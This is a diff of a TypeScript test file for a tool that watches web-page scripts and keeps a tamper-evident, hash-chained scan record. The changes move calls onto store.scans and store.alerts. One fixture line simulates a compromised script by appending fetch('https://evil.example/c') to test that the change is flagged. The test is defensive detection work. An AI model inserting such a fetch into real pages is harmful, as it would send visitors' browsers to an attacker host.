@@ -11,9 +11,9 @@ import { rawDb } from '../fixtures/raw-db.js';
 
 function scanned(): Store {
   const store = openStore(join(tempProject('sw-chain-'), 'sw.db'));
-  const scan = (capture = healthyShop()) => store.applyPlan(planScan(capture, store.readBaseline(capture.target, capture.profile), { removalThreshold: 2 }));
+  const scan = (capture = healthyShop()) => store.scans.applyPlan(planScan(capture, store.scans.readBaseline(capture.target, capture.profile), { removalThreshold: 2 }));
   scan();
-  store.approveAll({ by: 'alice', note: 'baseline', at: '2026-11-22T09:00:00.000Z' });
+  store.alerts.approveAll({ by: 'alice', note: 'baseline', at: '2026-11-22T09:00:00.000Z' });
   scan(pageCapture([script({ kind: 'external', url: APP.url, body: `${APP.body}\nfetch("https://evil.example/c")` }), LIB, INLINE_A, INLINE_B]));
   scan(healthyShop({ outcome: { ok: false, code: 'PAGE_TIMEOUT', reason: 'slow' } }));
   scan();
@@ -23,9 +23,9 @@ function scanned(): Store {
 describe('scan chain', () => {
   it('verifies an untouched store, and alert decisions do not break it', () => {
     const store = scanned();
-    const alert = store.listAlerts({ status: 'open' })[0]!;
-    store.decide([alert.id], 'approved', { by: 'bob', note: 'ok', at: '2026-11-22T10:00:00.000Z' });
-    const report = store.verify();
+    const alert = store.alerts.list({ status: 'open' })[0]!;
+    store.alerts.decide([alert.id], 'approved', { by: 'bob', note: 'ok', at: '2026-11-22T10:00:00.000Z' });
+    const report = store.scans.verify();
     assert.equal(report.ok, true, JSON.stringify(report.firstBreak));
     assert.equal(report.scans, 4);
     assert.ok(report.blobs > 5);
@@ -35,19 +35,19 @@ describe('scan chain', () => {
   it('names the first scan whose row was edited', () => {
     const store = scanned();
     rawDb(store).prepare('UPDATE scans SET http_status = 302 WHERE id = 2').run();
-    assert.match(store.verify().firstBreak?.reason ?? '', /^scan #2 .* does not match its hash/);
+    assert.match(store.scans.verify().firstBreak?.reason ?? '', /^scan #2 .* does not match its hash/);
     store.close();
   });
 
   it('finds an observation pointed at other content, and a removed scan', () => {
     const store = scanned();
     rawDb(store).prepare('UPDATE observations SET blob_id = (SELECT MAX(id) FROM blobs) WHERE scan_id = 4 AND script_id = (SELECT MIN(script_id) FROM observations WHERE scan_id = 4 AND blob_id IS NOT NULL)').run();
-    assert.match(store.verify().firstBreak?.reason ?? '', /^scan #4 /);
+    assert.match(store.scans.verify().firstBreak?.reason ?? '', /^scan #4 /);
     store.close();
     const other = scanned();
     rawDb(other).prepare('DELETE FROM observations WHERE scan_id = 2').run();
     rawDb(other).prepare('DELETE FROM scans WHERE id = 2').run();
-    assert.match(other.verify().firstBreak?.reason ?? '', /^scan #3 .* does not follow the scan before it/);
+    assert.match(other.scans.verify().firstBreak?.reason ?? '', /^scan #3 .* does not follow the scan before it/);
     other.close();
   });
 
@@ -57,7 +57,7 @@ describe('scan chain', () => {
     const data = Buffer.from(blob.data);
     data[0] = data[0]! ^ 0x01;
     rawDb(store).prepare('UPDATE blobs SET data = ? WHERE id = ?').run(data, blob.id);
-    const report = store.verify();
+    const report = store.scans.verify();
     assert.equal(report.ok, false);
     assert.equal(report.firstBreak?.kind, 'blob');
     assert.equal(report.firstBreak?.sha256, blob.sha256);
